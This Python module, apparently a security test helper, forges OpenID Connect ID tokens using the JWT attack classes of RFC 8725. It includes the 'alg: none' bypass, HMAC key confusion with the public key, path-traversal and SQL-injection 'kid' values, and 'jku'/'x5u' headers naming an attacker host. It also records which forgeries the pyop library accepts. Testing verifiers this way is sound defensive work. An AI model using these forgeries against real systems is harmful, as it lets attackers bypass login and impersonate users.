"""ID tokens that somebody else made (RFC 8725)."""

from __future__ import annotations

import base64
import hmac
import json
from collections.abc import Callable
from typing import Any

from joserfc import jws
from joserfc.jwk import RSAKey

Forge = Callable[[dict[str, Any], str, dict[str, Any]], str]
"""Of the header and the payload of a genuine token, and the published key."""


def encoded(part: dict[str, Any]) -> str:
    return base64.urlsafe_b64encode(json.dumps(part).encode()).rstrip(b"=").decode()


def unsigned(claims: dict[str, Any]) -> str:
    return f"{encoded({'alg': 'none'})}.{encoded(claims)}."


def hmac_with(secret: Callable[[dict[str, Any]], bytes]) -> Forge:
    """Takes the public key for the secret of an HMAC (RFC 8725 2.1)."""

    def make(header: dict[str, Any], payload: str, published: dict[str, Any]) -> str:
        signed = f"{encoded({**header, 'alg': 'HS256'})}.{payload}"
        signature = hmac.digest(secret(published), signed.encode(), "sha256")
        return f"{signed}.{base64.urlsafe_b64encode(signature).rstrip(b'=').decode()}"

    return make


def by_stranger(**more: Any) -> Forge:
    """Signed with a key of the attacker's own, which the header names."""

    def make(header: dict[str, Any], payload: str, published: dict[str, Any]) -> str:
        stranger = RSAKey.generate_key(2048)
        named = {"jwk": stranger.as_dict(private=False)} if more.get("jwk") else more
        claims = base64.urlsafe_b64decode(payload + "==")
        return jws.serialize_compact({**header, **named}, claims, stranger, algorithms=["RS256"])

    return make


FORGERIES: dict[str, tuple[Forge, bool]] = {
    "none": (lambda header, payload, key: f"{encoded({**header, 'alg': 'none'})}.{payload}.", True),
    "None": (lambda header, payload, key: f"{encoded({**header, 'alg': 'None'})}.{payload}.", False),
    "hmac with the public PEM": (hmac_with(lambda key: RSAKey.import_key(key).as_pem(private=False)), True),
    "hmac with the modulus": (hmac_with(lambda key: str(key["n"]).encode()), True),
    "hmac with nothing": (hmac_with(lambda key: b""), True),
    "kid that is a path": (by_stranger(kid="../../../../dev/null"), True),
    "kid that is a query": (by_stranger(kid="x' UNION SELECT 'key"), True),
    "embedded jwk": (by_stranger(jwk=True), False),
    "jku": (by_stranger(jku="https://evil.example.org/jwks"), False),
    "x5u": (by_stranger(x5u="https://evil.example.org/certificate"), False),
    "no kid": (by_stranger(kid=""), False),
}
"""How it is made, and whether pyop believes it: it takes a signature for good for which it has no key (oic 1.7.0,
`Message.from_jwt`). The others end in exceptions that no host of it catches.
"""


def forged(kind: str, genuine: str, published: dict[str, Any]) -> str:
    """A forgery of a genuine ID token."""
    header, payload, _ = genuine.split(".")
    make, _ = FORGERIES[kind]
    return make(json.loads(base64.urlsafe_b64decode(header + "==")), payload, published)
